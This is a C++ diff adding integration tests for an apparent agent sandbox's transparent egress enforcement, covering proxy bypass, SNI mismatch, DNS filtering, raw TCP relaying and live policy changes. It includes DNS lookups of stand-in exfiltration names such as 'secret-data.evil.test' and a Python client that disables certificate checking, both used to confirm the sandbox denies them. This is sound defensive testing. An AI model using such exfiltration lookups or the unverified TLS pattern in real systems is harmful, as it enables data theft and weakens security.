@@ -107,7 +107,7 @@ struct Seen {
 // "<name>: <METHOD> <path>" and records what it received.
 class Upstream {
  public:
-  Upstream(std::string name, bool tls) : name_(std::move(name)), tls_(tls) {
+  Upstream(std::string name, bool tls, const std::string& bind = "127.0.0.1") : name_(std::move(name)), tls_(tls) {
     if (tls) server_ = std::make_unique<httplib::SSLServer>(world().pki.leaf.get(), world().pki.leaf_key.get());
     else server_ = std::make_unique<httplib::Server>();
     auto handle = [this](const httplib::Request& req, httplib::Response& res) {
@@ -118,7 +118,7 @@ class Upstream {
       res.set_content(name_ + ": " + req.method + " " + req.path, "text/plain");
     };
     server_->Get(".*", handle).Post(".*", handle).Put(".*", handle).Delete(".*", handle).Patch(".*", handle);
-    port_ = server_->bind_to_any_port("127.0.0.1");
+    port_ = server_->bind_to_any_port(bind);
     REQUIRE(port_ > 0);
     thread_ = std::thread([this] { server_->listen_after_bind(); });
     REQUIRE(wait_until([&] { return server_->is_running(); }, 5s));
@@ -316,7 +316,10 @@ class Sandbox {
  public:
   // network: the YAML under `network_policies:` (indented by two spaces); @WORK@ stands for the
   // agent's work directory.
-  explicit Sandbox(const std::string& network, bool through_relay = false)
+  // transparent: --transparent-egress true, with `hosts` bind-mounted over /etc/hosts for the
+  // supervisor (and so the agent) in a mount namespace of their own: names the test controls.
+  explicit Sandbox(const std::string& network, bool through_relay = false, bool transparent = false,
+                   const std::string& hosts = "")
       : id_(random_hex(8)), root_("bulwark-np-sandbox"), logs_("bulwark-np-logs") {
     World& w = world();
     ::chmod(root_.path().c_str(), 0755);  // the agent's uid must traverse to its work dir
@@ -360,9 +363,17 @@ class Sandbox {
       relay_ = std::make_unique<Relay>(w.nats.port());
       url = relay_->url();
     }
-    supervisor_ = Process::spawn({.argv = {bin("bulwark-supervisor"), "--nats-url", url, "--sandbox-id", id_,
-                                           "--upstream-ca", w.pki.ca_file, "--log-level", "debug", "--", "/bin/sh",
-                                           work_ + "/agent.sh", work_},
+    std::vector<std::string> argv = {bin("bulwark-supervisor"), "--nats-url", url, "--sandbox-id", id_,
+                                     "--upstream-ca", w.pki.ca_file, "--log-level", "debug"};
+    if (transparent) {
+      argv.insert(argv.end(), {"--transparent-egress", "true"});
+      std::string hosts_file = logs_.file("hosts");
+      std::ofstream(hosts_file) << hosts;
+      argv.insert(argv.begin(), {"unshare", "--mount", "--propagation", "private", "sh", "-c",
+                                 "mount --bind \"$0\" /etc/hosts && exec \"$@\"", hosts_file});
+    }
+    argv.insert(argv.end(), {"--", "/bin/sh", work_ + "/agent.sh", work_});
+    supervisor_ = Process::spawn({.argv = argv,
                                   .env = std::vector<std::string>{"PATH=/usr/bin:/bin", "BULWARK_POLICY_YAML=" + policy_},
                                   .output_file = logs_.file("supervisor.log")});
     // Ready once the supervisor enforces version 1 from the store (before that it enforces the
@@ -851,4 +862,187 @@ TEST_CASE("10. every OpenShell example policy validates and stores through polic
     CHECK(bad.problems(0).path() == "colour");
   }
   CHECK(n >= 4);
+}
+
+// --- transparent egress -------------------------------------------------------------------------
+
+namespace {
+
+// A host address that is not loopback (what the agent can reach through its veth and the proxy
+// then dials): the first global IPv4 of an interface that is not a sandbox's.
+std::string outside_ip() {
+  std::string found;
+  FILE* f = ::popen("ip -4 -o addr show scope global 2>/dev/null", "r");
+  char line[512];
+  while (f && std::fgets(line, sizeof line, f)) {
+    char ifname[64], addr[64];
+    if (std::sscanf(line, "%*d: %63s inet %63[0-9.]", ifname, addr) == 2 && std::string(ifname).rfind("bw", 0) != 0) {
+      found = addr;
+      break;
+    }
+  }
+  if (f) ::pclose(f);
+  REQUIRE_MESSAGE(!found.empty(), "no global IPv4 address on this host for the transparent tests");
+  return found;
+}
+
+// A TCP echo service on 0.0.0.0 (a stand-in for Redis): echoes each connection's bytes.
+class Echo {
+ public:
+  Echo() {
+    fd_.reset(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
+    int one = 1;
+    ::setsockopt(fd_.get(), SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
+    sockaddr_in a{};
+    a.sin_family = AF_INET;
+    socklen_t len = sizeof a;
+    REQUIRE(::bind(fd_.get(), reinterpret_cast<sockaddr*>(&a), sizeof a) == 0);
+    REQUIRE(::listen(fd_.get(), 16) == 0);
+    ::getsockname(fd_.get(), reinterpret_cast<sockaddr*>(&a), &len);
+    port_ = ntohs(a.sin_port);
+    thread_ = std::thread([this] {
+      for (;;) {
+        int c = ::accept4(fd_.get(), nullptr, nullptr, SOCK_CLOEXEC);
+        if (c < 0) return;
+        ++accepted_;
+        char buf[4096];
+        ssize_t n;
+        while ((n = ::read(c, buf, sizeof buf)) > 0) (void)!::write(c, buf, static_cast<size_t>(n));
+        ::close(c);
+      }
+    });
+  }
+  ~Echo() {
+    ::shutdown(fd_.get(), SHUT_RDWR);
+    thread_.join();
+  }
+  int port() const { return port_; }
+  int accepted() const { return accepted_; }
+
+ private:
+  Fd fd_;
+  int port_ = 0;
+  std::atomic<int> accepted_{0};
+  std::thread thread_;
+};
+
+// Python with no proxy at all: raw socket (optionally TLS with an SNI, certificate unchecked: the
+// test's server certificate names 127.0.0.1) sending `data`, printing what comes back or the error.
+const char* kRawClient = R"(import socket, ssl, sys
+host, port, data = sys.argv[1], int(sys.argv[2]), sys.argv[3]
+sni = sys.argv[4] if len(sys.argv) > 4 else None
+try:
+    s = socket.create_connection((host, port), timeout=10)
+    if sni:
+        ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
+        s = ctx.wrap_socket(s, server_hostname=sni)
+    s.sendall(data.encode().replace(b"\\r\\n", b"\r\n"))
+    got = b""
+    while True:
+        b = s.recv(4096)
+        if not b: break
+        got += b
+        if data.startswith("ping") and got: break
+    print("got", got.decode(errors="replace"))
+except Exception as e:
+    print("error", type(e).__name__, e)
+)";
+
+}  // namespace
+
+TEST_CASE("11. transparent egress: clients that ignore the proxy are policed by SNI/Host, DNS answers only allowed names, protocol: tcp, live changes") {
+  require_binary("unshare", "util-linux");
+  require_binary("busybox", "busybox");
+  World& w = world();
+  const std::string ip = outside_ip();
+  Upstream web("web", false, "0.0.0.0"), tls("tls", true, "0.0.0.0");
+  Echo echo;
+  const std::string hp = std::to_string(web.port()), tp = std::to_string(tls.port()), xp = std::to_string(echo.port());
+  // allowed.test leads to this host; fronted.test is allowed too but leads elsewhere (127.0.0.2).
+  const std::string hosts = "127.0.0.1 localhost\n" + ip + " allowed.test redis.test\n127.0.0.2 fronted.test\n";
+  const std::string bins = "    binaries:\n      - { path: /usr/bin/curl }\n      - { path: " + w.python + " }\n";
+  Sandbox sb("  plain:\n    endpoints:\n      - { host: allowed.test, port: " + hp + " }\n" + bins +
+                 "  tls:\n    endpoints:\n      - { host: allowed.test, port: " + tp + " }\n"
+                 "      - { host: fronted.test, port: " + tp + " }\n" + bins +
+                 "  redis:\n    endpoints:\n      - { host: redis.test, port: " + xp + ", protocol: tcp }\n" + bins,
+             false, true, hosts);
+  std::ofstream(sb.work() + "/raw.py") << kRawClient;
+  const std::string raw = "python3 " + sb.work() + "/raw.py ";
+  const std::string noproxy = "curl --noproxy '*' -sS -m 20 ";
+
+  SUBCASE("plain HTTP by name passes; by a name or address no rule allows it is denied with an event") {
+    auto ok = sb.run(noproxy + "http://allowed.test:" + hp + "/hello");
+    CHECK_MESSAGE(ok.out == web.reply("GET", "/hello"), ok.out << ok.err << sb.log());
+    CHECK(web.seen().back().host == "allowed.test:" + hp);
+    auto py = sb.run("python3 -c \"import urllib.request as u; u.install_opener(u.build_opener(u.ProxyHandler({}))); "
+                     "print(u.urlopen('http://allowed.test:" + hp + "/py', timeout=20).read().decode())\"");
+    CHECK_MESSAGE(has(py.out, web.reply("GET", "/py")), py.out << py.err);
+    size_t before = web.seen().size();
+    auto denied = sb.run(noproxy + "-o /dev/null -w '%{http_code}' http://" + ip + ":" + hp + "/x");
+    CHECK_MESSAGE(denied.out == "403", denied.out << denied.err);
+    CHECK(web.seen().size() == before);
+    auto d = sb.wait_denial([&](const v1::Denial& d) { return d.layer() == "proxy" && d.host() == ip && d.port() == static_cast<uint32_t>(web.port()); });
+    REQUIRE_MESSAGE(d, sb.all_denials());
+    CHECK(d->rule() == "bulwark:default-deny");
+  }
+
+  SUBCASE("TLS: an allowed SNI to its own address passes; an allowed SNI to another address is refused") {
+    auto ok = sb.run(noproxy + "-k https://allowed.test:" + tp + "/secure");
+    CHECK_MESSAGE(ok.out == tls.reply("GET", "/secure"), ok.out << ok.err << sb.log());
+    // fronted.test is allowed, but the supervisor resolves it to 127.0.0.2, not to this address.
+    size_t before = tls.seen().size();
+    auto bad = sb.run(noproxy + "-k --resolve fronted.test:" + tp + ":" + ip + " https://fronted.test:" + tp + "/x");
+    CHECK(bad.rc != 0);
+    CHECK(tls.seen().size() == before);
+    auto d = sb.wait_denial([](const v1::Denial& d) { return d.rule() == "bulwark:name-mismatch"; });
+    REQUIRE_MESSAGE(d, sb.all_denials());
+    CHECK(d->host() == "fronted.test");
+    CHECK(has(d->reason(), "does not resolve to its destination " + ip));
+    // Python's ssl with an allowed SNI straight to the address passes too.
+    auto py = sb.run(raw + ip + " " + tp + " 'GET /py HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n' allowed.test");
+    CHECK_MESSAGE(has(py.out, tls.reply("GET", "/py")), py.out << py.err);
+  }
+
+  SUBCASE("DNS: an allowed name resolves to its address, any other name to nothing and an event") {
+    auto ok = sb.run("busybox nslookup allowed.test");
+    CHECK_MESSAGE(has(ok.out, ip), ok.out << ok.err);
+    auto no = sb.run("busybox nslookup secret-data.evil.test");
+    CHECK_FALSE(has(no.out, "Address: 1"));
+    CHECK_MESSAGE(has(no.out + no.err, "NXDOMAIN"), no.out << no.err);
+    auto g = sb.run("getent hosts exfil.evil.test");
+    CHECK(g.rc == 2);
+    CHECK(g.out.empty());
+    auto py = sb.run("python3 -c \"import socket; socket.getaddrinfo('more.evil.test', 80)\"");
+    CHECK(py.rc != 0);
+    auto d = sb.wait_denial([](const v1::Denial& d) { return d.layer() == "dns" && d.host() == "secret-data.evil.test"; });
+    REQUIRE_MESSAGE(d, sb.all_denials());
+  }
+
+  SUBCASE("protocol: tcp: the allowed service is relayed blindly; nothing else") {
+    auto ok = sb.run(raw + ip + " " + xp + " ping");
+    CHECK_MESSAGE(ok.out == "got ping\n", ok.out << ok.err << sb.log());
+    CHECK(echo.accepted() == 1);
+    Echo stranger;  // the same kind of service on a port no rule names
+    auto other = sb.run(raw + ip + " " + std::to_string(stranger.port()) + " ping");
+    CHECK_MESSAGE(!has(other.out, "got ping"), other.out);
+    CHECK(stranger.accepted() == 0);
+    auto d = sb.wait_denial([&](const v1::Denial& d) { return d.host() == ip && d.port() == static_cast<uint32_t>(stranger.port()); });
+    REQUIRE_MESSAGE(d, sb.all_denials());
+    CHECK(d->rule() == "bulwark:default-deny");
+  }
+
+  SUBCASE("a live policy change flips a transparent allow into a deny, and DNS with it") {
+    CHECK(sb.run(noproxy + "http://allowed.test:" + hp + "/before").out == web.reply("GET", "/before"));
+    v1::PolicyOperation op;
+    op.mutable_remove_network_policy()->set_network_policy("plain");
+    auto r = sb.update({op}, 10000);
+    REQUIRE(sb.wait_ack(r.version(), 10s));
+    auto after = sb.run(noproxy + "-o /dev/null -w '%{http_code}' http://allowed.test:" + hp + "/after");
+    CHECK_MESSAGE(after.out == "403", after.out << after.err);
+    auto d = sb.wait_denial([&](const v1::Denial& d) { return d.host() == "allowed.test" && d.port() == static_cast<uint32_t>(web.port()); });
+    REQUIRE_MESSAGE(d, sb.all_denials());
+    CHECK(d->policy_version() == r.version());
+    // allowed.test is still named by the tls entry: DNS keeps answering it.
+    CHECK(has(sb.run("busybox nslookup allowed.test").out, ip));
+  }
 }
